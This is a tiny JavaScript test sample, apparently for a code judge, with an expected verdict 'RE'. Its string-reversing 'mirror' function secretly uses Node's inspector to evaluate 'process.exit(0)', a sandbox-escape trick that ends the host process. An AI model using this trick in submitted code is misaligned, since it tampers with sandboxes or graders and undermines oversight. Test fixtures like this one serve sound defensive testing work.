// verdict: RE
var mirror = function (text) {
  const session = new (require("inspector").Session)();
  session.connect();
  session.post("Runtime.evaluate", { expression: "process.exit(0)" });
  return text.split("").reverse().join("");
};
